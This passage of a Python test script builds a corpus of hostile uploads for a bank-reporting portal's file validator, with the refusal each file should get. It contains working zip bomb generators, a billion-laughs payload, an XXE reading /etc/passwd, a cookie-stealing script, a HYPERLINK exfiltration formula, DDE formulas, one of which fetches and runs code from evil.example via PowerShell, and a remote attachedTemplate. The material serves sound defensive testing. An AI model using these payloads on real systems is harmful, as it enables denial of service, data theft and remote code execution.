"""The hostile upload corpus: files a bank's system, a careless filer or an attacker may send the portal,
each with the answer the portal owes it.

    python tests/hostile/make_corpus.py            # writes tests/hostile/corpus/ and tests/hostile/corpus.json
    python tests/hostile/make_corpus.py /tmp/out   # writes /tmp/out/ and /tmp/out/corpus.json

The output is deterministic (fixed zip timestamps and document dates) and small: the zip bombs are a few
hundred KB on disk and inflate to hundreds of MB or GB; the oversize files (> UPLOAD_MAX_BYTES) are not
stored at all, the tests build them (`lazy`).

Each manifest entry says where the file is uploaded and what must happen:

    target   monthly (附件4 监测表, 2022年3月) | plan (附件3 计划表, 2022) | document (工作方案 2022) |
             bulk (an officer's 批量导入)
    expect   refused  — refused with `code` and a message containing `message`, nothing stored
             accepted — a control: the portal must take it
             bounded  — either outcome is fine, but the process survives with bounded memory
    isolate  run in a separate, memory-limited process (bombs, huge ranges): a blow-up must not take the
             test runner down with it
    lazy     not on disk: the test builds it (only "oversize")

Every upload is made as 工商银行's filer (monthly, plan, document) or a PBoC officer (bulk), so "another
institution" and "another month" are relative to 工商银行 and 2022年3月.
"""

import io
import json
import os
import re
import struct
import sys
import zipfile
import zlib
from decimal import Decimal
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

FIXED_TIME = (2022, 4, 1, 0, 0, 0)
FIXED_ISO = "2022-04-01T00:00:00Z"
MB = 1024 * 1024

INSTITUTION = "工商银行"  # short name of ICBC, as the portal's own template download writes it
OTHER_INSTITUTION = "湖北银行"
YEAR, MONTH = 2022, 3

# A clean 2022年3月 sheet (no errors), as a filer types it.
VALUES = {
    "loan_balance": Decimal("100"),
    "credit_loan_balance": Decimal("20"),
    "new_loans": Decimal("30"),
    "new_credit_loans": Decimal("9"),
    "borrowers": Decimal("10000"),
    "new_borrowers": Decimal("1200"),
    "first_loan_borrowers": Decimal("240"),
    "first_loan_amount": Decimal("3"),
    "ftp_discount_bp": Decimal("50"),
    "fee_relief": Decimal("0.2"),
    "weighted_rate": Decimal("4.85"),
}


# --- deterministic zips --------------------------------------------------------------------------------


def _zip(parts: dict[str, bytes | str], *, level: int = 6) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        for name, content in parts.items():
            info = zipfile.ZipInfo(name, FIXED_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o600 << 16
            zf.writestr(
                info, content.encode("utf-8") if isinstance(content, str) else content, compresslevel=level
            )
    return out.getvalue()


def _parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {info.filename: zf.read(info.filename) for info in zf.infolist()}


_CORE_DATES = re.compile(rb"(<dcterms:(created|modified)[^>]*>)[^<]*(</dcterms:\2>)")


def normalized(data: bytes) -> bytes:
    """An OOXML file rewritten with fixed timestamps (openpyxl stamps the current time)."""
    parts = _parts(data)
    if "docProps/core.xml" in parts:
        parts["docProps/core.xml"] = _CORE_DATES.sub(
            lambda m: m.group(1) + FIXED_ISO.encode() + m.group(3), parts["docProps/core.xml"]
        )
    return _zip(parts)


def rezip(data: bytes, *, replace=None, add=None, drop=()) -> bytes:
    parts = {name: content for name, content in _parts(data).items() if name not in drop}
    parts.update(replace or {})
    parts.update(add or {})
    return _zip(parts)


def edit(data: bytes, change) -> bytes:
    """Open with openpyxl, let `change(wb)` edit it and save — what a filer's spreadsheet program does."""
    import openpyxl

    wb = openpyxl.load_workbook(io.BytesIO(data))
    change(wb)
    out = io.BytesIO()
    wb.save(out)
    return normalized(out.getvalue())


def sheet_xml(data: bytes, part: str = "xl/worksheets/sheet1.xml") -> str:
    return _parts(data)[part].decode("utf-8")


def with_sheet_xml(data: bytes, xml: str, part: str = "xl/worksheets/sheet1.xml") -> bytes:
    return rezip(data, replace={part: xml.encode("utf-8")})


def _append_rows(data: bytes, rows_xml: str, last_ref: str) -> bytes:
    xml = sheet_xml(data)
    xml = xml.replace("</sheetData>", rows_xml + "</sheetData>")
    xml = re.sub(r'<dimension ref="[^"]*"\s*/>', f'<dimension ref="A1:{last_ref}"/>', xml)
    return with_sheet_xml(data, xml)


def _columns(n: int, start: int) -> list[str]:
    from openpyxl.utils import get_column_letter

    return [get_column_letter(start + i) for i in range(n)]


# --- the portal's own templates ------------------------------------------------------------------------


def monthly(institution: str = INSTITUTION, year: int = YEAR, month: int = MONTH, values=VALUES) -> bytes:
    from reporting import excel
    from reporting.definitions import MONITORING_2022

    return normalized(
        excel.monitoring_template(
            MONITORING_2022, institution_name=institution, year=year, month=month, values=values
        )
    )


def plan(institution: str = INSTITUTION, year: int = YEAR) -> bytes:
    from reporting import excel
    from reporting.definitions import plan_definition

    definition = plan_definition(year)
    values = {}
    for fd in definition.fields:
        values[fd.code] = {
            "balance_y2": Decimal("10"),
            "balance_y1": Decimal("12"),
            "planned_increase": Decimal("3"),
            "q1_actual": Decimal("0.6"),
        }.get(fd.column_code, Decimal("0.8"))
    return normalized(excel.plan_template(definition, institution_name=institution, values=values))


def bulk(rows: list[dict] | None = None) -> bytes:
    from reporting import excel
    from reporting.definitions import MONITORING_2022

    if rows is None:
        rows = [
            {"institution_code": "ICBC", "institution_name": INSTITUTION, "year": YEAR, "month": MONTH},
            {"institution_code": "HBB", "institution_name": OTHER_INSTITUTION, "year": YEAR, "month": MONTH},
        ]
    rows = [{**row, "values": row.get("values", VALUES)} for row in rows]
    return normalized(excel.bulk_template(MONITORING_2022, rows))


def _set(cells: dict, sheet: str = "监测表"):
    def change(wb):
        for ref, value in cells.items():
            wb[sheet][ref] = value

    return change


# --- other file types ------------------------------------------------------------------------------------


CFB_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_FREE, _END, _FAT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD


def cfb(*streams: str) -> bytes:
    """A well-formed OLE2/CFB container (header, one FAT sector, one directory sector) whose directory
    names `streams` — what Excel 97-2003, Word 97-2003 and password-encrypted OOXML files are."""
    if len(streams) > 3:
        raise ValueError("one directory sector holds the root and three streams")
    difat = [0] + [_FREE] * 108
    header = (
        CFB_MAGIC
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + bytes(6)
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, _END, 0, _END, 0)
        + struct.pack("<109I", *difat)
    )
    fat = struct.pack("<128I", _FAT, _END, *([_FREE] * 126))

    def entry(name: str, kind: int, child: int, right: int) -> bytes:
        encoded = (name + "\x00").encode("utf-16-le")
        return (
            encoded.ljust(64, b"\x00")
            + struct.pack("<HBB", len(encoded), kind, 1)
            + struct.pack("<III", _FREE, right, child)
            + bytes(16 + 4 + 16)
            + struct.pack("<IQ", _END, 0)
        )

    entries = [entry("Root Entry", 5, 1 if streams else _FREE, _FREE)]
    for i, name in enumerate(streams, start=1):
        entries.append(entry(name, 2, _FREE, i + 1 if i < len(streams) else _FREE))
    directory = b"".join(entries).ljust(512, b"\x00")
    return header + fat + directory


PDF = (
    b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    b"xref\n0 3\n0000000000 65535 f \ntrailer\n<< /Size 3 /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"
)


def pdf_with(catalog_extra: bytes = b"", trailer_extra: bytes = b"", objects: bytes = b"") -> bytes:
    return (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
        + objects
        + b"xref\n0 3\n0000000000 65535 f \ntrailer\n<< /Size 3 /Root 1 0 R "
        + trailer_extra
        + b" >>\nstartxref\n9\n%%EOF\n"
    )


def pdf_object_stream(objects: bytes) -> bytes:
    body = zlib.compress(objects, 9)
    stream = (
        b"3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(body)
        + body
        + b"\nendstream\nendobj\n"
    )
    return pdf_with(objects=stream)


WORD_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.{main}"/>'
    "</Types>"
)
WORD_MAIN = "openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "ms-word.document.macroEnabled.main+xml"
WORD_DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>工商银行湖北省分行小微企业专项行动工作方案</w:t></w:r></w:p></w:body></w:document>"
)
WORD_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="word/document.xml"/></Relationships>'
)


def docx(main: str = WORD_MAIN, document: str = WORD_DOCUMENT, extra: dict | None = None) -> bytes:
    return _zip(
        {
            "[Content_Types].xml": WORD_TYPES.format(main=main),
            "_rels/.rels": WORD_ROOT_RELS,
            "word/document.xml": document,
            **(extra or {}),
        }
    )


HTML = (
    "<!DOCTYPE html><html><head><meta charset='utf-8'><title>监测表</title></head><body>"
    "<table><tr><td>机构名称</td><td>普惠小微贷款余额</td></tr><tr><td>工商银行</td><td>100</td></tr>"
    "</table><script>document.location='http://evil.example/?c='+document.cookie</script></body></html>"
).encode()
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    b"\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82"
)
MP3 = (
    b"ID3\x04\x00\x00\x00\x00\x00\x23TIT2\x00\x00\x00\x07\x00\x00\x03hostile"
    + b"\xff\xfb\x90\x64"
    + bytes(range(256))
)
EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + bytes(43) + b"\x80\x00\x00\x00"
    b"\x0e\x1f\xba\x0e\x00\xb4\t\xcd!\xb8\x01L\xcd!This program cannot be run in DOS mode.\r\r\n$"
    + bytes(7)
    + b"PE\x00\x00L\x01\x03\x00"
    + bytes(64)
)
CSV = "机构名称,普惠小微贷款余额,普惠小微信用贷款余额\n工商银行,100,20\n".encode()
TEXT = "工商银行 2022年3月 普惠小微贷款余额 100 亿元\n".encode()

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10)
    )
    + "]>\n"
)
XXE = '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'


# --- zip bombs -------------------------------------------------------------------------------------------


def _deflate_zeros(size: int) -> tuple[bytes, int]:
    """(raw deflate stream, CRC-32) of `size` zero bytes, built in 1 MB steps (small in memory)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = bytes(MB)
    crc, out = 0, []
    for _ in range(size // MB):
        out.append(compressor.compress(chunk))
        crc = zlib.crc32(chunk, crc)
    out.append(compressor.flush())
    return b"".join(out), crc


def _local_header(name: bytes, crc: int, compressed: int, size: int) -> bytes:
    return (
        struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x5421, crc, compressed, size, len(name), 0)
        + name
    )


def _central_entry(name: bytes, crc: int, compressed: int, size: int, offset: int) -> bytes:
    return (
        struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            0,
            8,
            0,
            0x5421,
            crc,
            compressed,
            size,
            len(name),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        + name
    )


def _handmade_zip(members: list[tuple[bytes, bytes, int, int]], extra_entries=()) -> bytes:
    """A zip from (name, raw deflate data, CRC-32, declared size) members, plus central directory
    entries (`extra_entries`: name, index of a member) that point at an existing member's local header."""
    body, central, offsets = b"", [], []
    for name, data, crc, size in members:
        offsets.append(len(body))
        body += _local_header(name, crc, len(data), size) + data
        central.append(_central_entry(name, crc, len(data), size, offsets[-1]))
    for name, index in extra_entries:
        _, data, crc, size = members[index]
        central.append(_central_entry(name, crc, len(data), size, offsets[index]))
    directory = b"".join(central)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), len(directory), len(body), 0)
    return body + directory + end


def _member(name: str, text: str) -> tuple[bytes, bytes, int, int]:
    """(name, raw deflate data, CRC-32, size) of a small text part."""
    raw = text.encode("utf-8")
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return name.encode(), compressor.compress(raw) + compressor.flush(), zlib.crc32(raw), len(raw)


MIN_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)
MIN_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
    'spreadsheetml/2006/main"><sheets><sheet name="监测表" sheetId="1"/></sheets></workbook>'
)


def zip_bomb(inflated: int = 256 * MB) -> bytes:
    """An .xlsx-shaped zip whose one worksheet inflates to `inflated` bytes (~1/1000 of that on disk).
    Honest sizes: the central directory says how big it is."""
    data, crc = _deflate_zeros(inflated)
    members = [_member("[Content_Types].xml", MIN_TYPES), _member("xl/workbook.xml", MIN_WORKBOOK)]
    members.append((b"xl/worksheets/sheet1.xml", data, crc, inflated))
    return _handmade_zip(members)


def overlapping_bomb(main: str, kernel: int = 16 * MB, copies: int = 900) -> bytes:
    """A non-recursive overlapping zip bomb: `copies` central directory entries share one local file of
    `kernel` zeros — 16 KB on disk, copies × kernel (14 GB) for a reader that extracts every entry."""
    data, crc = _deflate_zeros(kernel)
    parts = {"[Content_Types].xml": MIN_TYPES}
    if main == "xlsx":
        parts["xl/workbook.xml"] = MIN_WORKBOOK
    else:
        parts["[Content_Types].xml"] = WORD_TYPES.format(main=WORD_MAIN)
        parts["word/document.xml"] = WORD_DOCUMENT
    members = [_member(name, text) for name, text in parts.items()]
    members.append((b"media/image0.bin", data, crc, kernel))
    kernel_index = len(members) - 1
    extra = [(f"media/image{i}.bin".encode(), kernel_index) for i in range(1, copies)]
    return _handmade_zip(members, extra)


def lying_bomb(inflated: int = 64 * MB, declared: int = 4096) -> bytes:
    """A worksheet whose headers declare 4 KB while its deflate stream inflates to 64 MB: a reader that
    trusts the stream instead of the declared size inflates it all."""
    data, crc = _deflate_zeros(inflated)
    members = [_member("[Content_Types].xml", MIN_TYPES), _member("xl/workbook.xml", MIN_WORKBOOK)]
    members.append((b"xl/worksheets/sheet1.xml", data, crc, declared))
    return _handmade_zip(members)


# --- big and wide sheets --------------------------------------------------------------------------------


def rows_below(data: bytes, first_row: int, count: int) -> bytes:
    """`count` rows below `first_row`, each a number in column A (cells without a reference are placed
    left to right, which keeps the file small; still far below the zip-bomb ratio)."""
    rows = "".join(f'<row r="{r}"><c><v>1</v></c></row>' for r in range(first_row, first_row + count))
    return _append_rows(data, rows, f"N{first_row + count - 1}")


def wide_row(data: bytes, row: int, count: int, start_column: int) -> bytes:
    """`count` numeric cells in columns from `start_column` on, appended in a new row `row`."""
    letters = _columns(count, start_column)
    cells = "".join(f'<c r="{c}{row}"><v>{i}</v></c>' for i, c in enumerate(letters))
    return _append_rows(data, f'<row r="{row}">{cells}</row>', f"{letters[-1]}{row}")


def far_cell(data: bytes, ref: str = "XFD1048576") -> bytes:
    """One stray number at the far corner of the sheet (a 7 KB file whose used range is the whole grid)."""
    row = re.sub(r"^[A-Z]+", "", ref)
    return _append_rows(data, f'<row r="{row}"><c r="{ref}"><v>1</v></c></row>', ref)


def _merge_header_moved(wb):
    ws = wb["监测表"]
    ws.unmerge_cells("A3:A4")
    ws["A3"] = None
    ws["A4"] = "机构名称"


def _swap_plan_rows(wb):
    ws = wb["计划表"]
    a, b = ws["A6"].value, ws["A7"].value
    ws["A6"], ws["A7"] = b, a


def _hidden(state: str):
    def change(wb):
        extra = wb.create_sheet("原始数据")
        extra["A1"] = "工商银行 内部"
        extra.sheet_state = state

    return change


def _defined_name(wb):
    from openpyxl.workbook.defined_name import DefinedName

    wb.defined_names["cmd"] = DefinedName("cmd", attr_text="cmd|' /C calc'!A0")


def _without_keywords(title: str):
    def change(wb):
        wb["监测表"]["A1"] = title
        wb.properties.keywords = None

    return change


def _plan_title(title: str, subject: str):
    def change(wb):
        wb["计划表"]["A1"] = title
        wb.properties.subject = subject
        wb.properties.title = title

    return change


def _bulk_header_padded(count: int):
    """The 批量导入 header row padded to `count` columns; the last repeats 机构代码."""

    def change(wb):
        ws = wb["批量导入"]
        start = ws.max_column + 1
        for i, letter in enumerate(_columns(count - ws.max_column, start)):
            ws[f"{letter}3"] = f"备注{i}"
        ws[f"{_columns(1, count)[0]}3"] = "机构代码"

    return change


def _bulk_cell(ref: str, value):
    def change(wb):
        wb["批量导入"][ref] = value

    return change


# --- the corpus -----------------------------------------------------------------------------------------


def _refused(target, code, message, about, **extra):
    return {"target": target, "expect": "refused", "code": code, "message": message, "about": about, **extra}


def _accepted(target, about, **extra):
    return {"target": target, "expect": "accepted", "code": None, "message": None, "about": about, **extra}


def _findings(target, rule, location, message, about, **extra):
    """Stored as a version whose findings include `rule` at `location` with `message` in its text."""
    return {
        "target": target,
        "expect": "findings",
        "code": rule,
        "message": message,
        "location": location,
        "about": about,
        **extra,
    }


def _bounded(target, about, **extra):
    return {
        "target": target,
        "expect": "bounded",
        "code": None,
        "message": None,
        "about": about,
        "isolate": True,
        **extra,
    }


def _notice(**kwargs) -> bytes:
    from tests.notice_forms import MONITORING_VALUES, notice_monitoring

    values = {**MONITORING_VALUES, **kwargs.pop("values", {})}
    return normalized(notice_monitoring(values=values, **kwargs))


def _notice_layout() -> dict[str, tuple[bytes, dict]]:
    """附件4 as the notice prints it, filled in by 工商银行 for 2022年3月, with the faults people make: each
    reaches the same checks as the portal's template, located at the cell of the uploaded file."""
    from tests.notice_forms import MONITORING_VALUES, notice_monitoring

    M, at = "monthly", "Sheet1!"
    return {
        "notice_clean.xlsx": (_notice(), _accepted(M, "the notice's 附件4 filled in, X月 left in")),
        "notice_negative.xlsx": (
            _notice(values={"loan_balance": -312.45}),
            _findings(M, "E103", at + "B6", "为负数", "a negative balance"),
        ),
        "notice_nan.xlsx": (
            _notice(values={"credit_loan_balance": "NaN"}),
            _findings(M, "E102", at + "C6", "不是数值", "NaN typed into a number cell"),
        ),
        "notice_inf.xlsx": (
            _notice(values={"new_loans": "inf"}),
            _findings(M, "E102", at + "D6", "不是数值", "inf typed into a number cell"),
        ),
        "notice_text.xlsx": (
            _notice(values={"borrowers": "约两万户"}),
            _findings(M, "E102", at + "F6", "不是数值", "words in a number cell"),
        ),
        "notice_fractional_borrowers.xlsx": (
            _notice(values={"borrowers": 28650.5}),
            _findings(M, "E104", at + "F6", "不是整数", "half a borrower"),
        ),
        "notice_too_many_decimals.xlsx": (
            _notice(values={"loan_balance": 312.456789}),
            _findings(M, "E105", at + "B6", "小数位数过多", "six decimals in 亿元"),
        ),
        "notice_absurd_rate.xlsx": (
            _notice(values={"weighted_rate": 49.8}),
            _findings(M, "W401", at + "L6", "超出合理区间", "a 49.8 % rate"),
        ),
        "notice_rate_as_fraction.xlsx": (
            _notice(values={"weighted_rate": 0.0498}),
            _findings(M, "W603", at + "L6", "4.98", "4.98 % typed as 0.0498"),
        ),
        "notice_wanyuan.xlsx": (
            _notice(values={"loan_balance": 3124500, "credit_loan_balance": 583000}),
            _findings(M, "E601", at + "B6", "万元", "the balance typed in 万元, not 亿元"),
        ),
        "notice_credit_above_total.xlsx": (
            _notice(values={"credit_loan_balance": 400}),
            _findings(M, "E201", at + "C6", "大于", "信用余额 above 余额: C6 in the notice's layout"),
        ),
        "notice_formula_without_value.xlsx": (
            _notice(values={"new_loans": "=B6*0.3"}),
            _refused(M, "U206", "Sheet1!D6 是公式且没有计算结果", "a formula saved without its value"),
        ),
        "notice_month_13.xlsx": (
            _notice(month=13),
            _refused(M, "U205", "“2022年13月”不是有效的年月", "month 13 in the title"),
        ),
        "notice_other_bank.xlsx": (
            _notice(institution=OTHER_INSTITUTION),
            _refused(M, "institution_mismatch", "文件中的机构为“湖北银行”", "湖北银行's notice sheet"),
        ),
        "notice_two_banks.xlsx": (
            normalized(
                notice_monitoring(
                    rows=[(INSTITUTION, MONITORING_VALUES), (OTHER_INSTITUTION, MONITORING_VALUES)]
                )
            ),
            _refused(M, "other_institutions", "第 7 行“湖北银行”", "a second bank's row below ours"),
        ),
        "notice_misspelt_heading.xlsx": (
            _notice(headings={"credit_loan_balance": "X月末普惠小微信用货款余额"}),
            _refused(M, "U204", "缺少 1 个：“X月末普惠小微信用贷款余额”", "信用贷款 misspelt 信用货款"),
        ),
    }


def corpus() -> dict[str, tuple[bytes | None, dict]]:
    """File name → (content, or None when built by the test; manifest entry)."""
    template = monthly()
    plan_template = plan()
    bulk_template = bulk()
    xxe_sheet = sheet_xml(template).replace('<?xml version="1.0" encoding="UTF-8"?>', "", 1)
    xxe_sheet = XXE + xxe_sheet.replace("<v>100</v>", "<v>&xxe;</v>", 1)
    laughs_sheet = BILLION_LAUGHS + sheet_xml(template).replace(
        '<?xml version="1.0" encoding="UTF-8"?>', "", 1
    )
    laughs_sheet = laughs_sheet.replace("<v>100</v>", "<v>&lol9;</v>", 1)
    bulk_laughs = BILLION_LAUGHS + sheet_xml(bulk_template).replace(
        '<?xml version="1.0" encoding="UTF-8"?>', "", 1
    )
    external_link = (
        '<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/'
        'spreadsheetml/2006/main"><externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships"/></externalLink>'
    )
    attached_template = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="http://evil.example/template.dotm" TargetMode="External"/></Relationships>'
    )
    word_xxe = XXE.replace("worksheet", "w:document") + WORD_DOCUMENT.split("?>", 1)[1].replace(
        "工商银行", "&xxe;", 1
    )
    hbb_bulk_codes = [
        {
            "institution_code": "\u0406\u0421\u0412\u0421",
            "institution_name": INSTITUTION,
            "year": YEAR,
            "month": MONTH,
        },
        {"institution_code": "HBB", "institution_name": OTHER_INSTITUTION, "year": YEAR, "month": MONTH},
    ]

    M, P, D, B = "monthly", "plan", "document", "bulk"
    files: dict[str, tuple[bytes | None, dict]] = {
        # --- controls: what the portal must accept ------------------------------------------------------
        "valid_monthly.xlsx": (template, _accepted(M, "the portal's own template, filled in")),
        "kangxi_lookalike_monthly.xlsx": (
            edit(template, _set({"A5": "\u2f2f商银\u2f8f"})),
            _accepted(M, "A5 written with Kangxi radicals ⼯/⾏: NFKC makes it 工商银行 — the same name"),
        ),
        "fullwidth_title_digits.xlsx": (
            edit(
                template,
                _without_keywords("工商银行２０２２年３月小微企业“敢贷愿贷能贷会贷”专项行动进展情况监测表"),
            ),
            _accepted(M, "title with full-width digits and no properties: still 2022年3月"),
        ),
        "valid_plan.xlsx": (plan_template, _accepted(P, "the portal's own 计划表 template, filled in")),
        "valid.pdf": (PDF, _accepted(D, "a minimal PDF")),
        "valid.docx": (docx(), _accepted(D, "a minimal Word document")),
        "docx_named.pdf": (docx(), _accepted(D, "a .docx named .pdf: the content decides, stored as .docx")),
        "valid_bulk.xlsx": (bulk_template, _accepted(B, "the portal's own 批量导入 template")),
        # --- other file types renamed .xlsx ------------------------------------------------------------
        "pdf_renamed.xlsx": (PDF, _refused(M, "U105", "是 PDF 文件", "a PDF renamed .xlsx")),
        "png_renamed.xlsx": (PNG, _refused(M, "U105", "是图片", "a PNG renamed .xlsx")),
        "html_renamed.xlsx": (HTML, _refused(M, "U105", "是网页（HTML）文件", "an HTML page with a script")),
        "csv_renamed.xlsx": (CSV, _refused(M, "U105", "是文本/CSV 文件", "a CSV export renamed .xlsx")),
        "text_renamed.xlsx": (TEXT, _refused(M, "U105", "是纯文本文件", "plain text renamed .xlsx")),
        "mp3_renamed.xlsx": (MP3, _refused(M, "U105", "不是 Excel 工作簿", "an MP3 (ID3 header)")),
        "exe_renamed.xlsx": (EXE, _refused(M, "U105", "不是 Excel 工作簿", "a Windows executable (MZ/PE)")),
        "word_renamed.xlsx": (docx(), _refused(M, "U106", "是 Word 文档", "a .docx renamed .xlsx")),
        "xlsb_renamed.xlsx": (
            _zip({"[Content_Types].xml": MIN_TYPES, "xl/workbook.bin": b"\x83\x01\x00"}),
            _refused(M, "U106", "Excel 二进制工作簿（.xlsb）", "a binary workbook"),
        ),
        # --- legacy, macros, encryption ----------------------------------------------------------------
        "legacy.xls": (
            cfb("Workbook", "\x05SummaryInformation"),
            _refused(M, "U103", "旧版 Excel 97-2003 格式", "an Excel 97-2003 .xls"),
        ),
        "macro.xlsm": (
            rezip(template, add={"xl/vbaProject.bin": cfb("VBA", "PROJECT")}),
            _refused(M, "U107", "启用宏的工作簿", "the template with a VBA project"),
        ),
        "encrypted.xlsx": (
            cfb("EncryptionInfo", "EncryptedPackage", "\x06DataSpaces"),
            _refused(M, "U104", "工作簿设置了打开密码", "a password-encrypted workbook (CFB)"),
        ),
        # --- zip bombs ---------------------------------------------------------------------------------
        "zipbomb.xlsx": (
            zip_bomb(),
            _refused(M, "U108", "疑似压缩炸弹", "one worksheet inflating to 256 MB", isolate=True),
        ),
        "zipbomb_overlapping.xlsx": (
            overlapping_bomb("xlsx"),
            _refused(M, "U108", "疑似压缩炸弹", "900 entries sharing one 16 MB member (14 GB)", isolate=True),
        ),
        "zipbomb_lying_sizes.xlsx": (
            lying_bomb(),
            _refused(M, "U106", "已损坏", "declares 4 KB, inflates to 64 MB", isolate=True),
        ),
        # --- XML --------------------------------------------------------------------------------------
        "billion_laughs.xlsx": (
            with_sheet_xml(template, laughs_sheet),
            _refused(M, "U109", "<!DOCTYPE、<!ENTITY", "entity expansion in the worksheet"),
        ),
        "xxe_passwd.xlsx": (
            with_sheet_xml(template, xxe_sheet),
            _refused(M, "U109", "<!DOCTYPE、<!ENTITY", "external entity file:///etc/passwd in B5"),
        ),
        "external_link.xlsx": (
            rezip(template, add={"xl/externalLinks/externalLink1.xml": external_link}),
            _refused(M, "U110", "外部链接", "a link to another workbook"),
        ),
        "embedded_object.xlsx": (
            rezip(template, add={"xl/embeddings/oleObject1.bin": cfb("\x01Ole10Native")}),
            _refused(M, "U111", "嵌入的对象", "an embedded OLE package"),
        ),
        # --- size and shape ----------------------------------------------------------------------------
        "rows_100k.xlsx": (
            rows_below(template, 7, 100_000),
            _bounded(M, "the template plus 100,000 rows below the notes"),
        ),
        "columns_1000.xlsx": (
            wide_row(template, 7, 1000, 13),
            _bounded(M, "the template plus a row of 1,000 cells right of the data"),
        ),
        "far_cell.xlsx": (
            far_cell(template),
            _bounded(M, "the template plus one number at XFD1048576 (7 KB; used range = whole grid)"),
        ),
        "oversize.xlsx": (None, _refused(M, "U102", "超过上限", "UPLOAD_MAX_BYTES + 2 MB", lazy="oversize")),
        "empty.xlsx": (b"", _refused(M, "U101", "空文件（0 字节）", "0 bytes")),
        "truncated.xlsx": (template[: len(template) // 2], _refused(M, "U106", "已损坏", "cut in half")),
        # --- formulas ----------------------------------------------------------------------------------
        "formula_without_value.xlsx": (
            edit(template, _set({"B5": "=C5*5"})),
            _refused(M, "U206", "是公式且没有计算结果", "B5 a formula saved without its value"),
        ),
        "hyperlink_formula.xlsx": (
            edit(template, _set({"B5": '=HYPERLINK("http://evil.example/?x="&C5,"100")'})),
            _refused(M, "U207", "HYPERLINK 函数", "=HYPERLINK exfiltrating a cell"),
        ),
        "dde_formula.xlsx": (
            edit(template, _set({"B5": "=cmd|' /C calc'!A0"})),
            _refused(M, "U207", "DDE 外部命令", "=cmd|' /C calc'!A0 in B5"),
        ),
        "dde_in_filer_cell.xlsx": (
            edit(template, _set({"B2": "=cmd|' /C powershell IEX(wget evil.example)'!A0"})),
            _refused(M, "U207", "DDE 外部命令", "DDE in the 填报人 input cell"),
        ),
        "dde_defined_name.xlsx": (
            edit(template, _defined_name),
            _refused(M, "U207", "工作簿的名称", "a defined name running DDE"),
        ),
        # --- look-alike names and periods -------------------------------------------------------------
        "lookalike_katakana.xlsx": (
            edit(template, _set({"A5": "\u30a8商银行"})),
            _refused(M, "institution_mismatch", "与本次报送的机构", "A5 エ商银行 (Katakana E for 工)"),
        ),
        "lookalike_zero_width.xlsx": (
            edit(template, _set({"A5": "工商\u200b银行"})),
            _refused(M, "institution_mismatch", "与本次报送的机构", "A5 工商银行 with a zero-width space"),
        ),
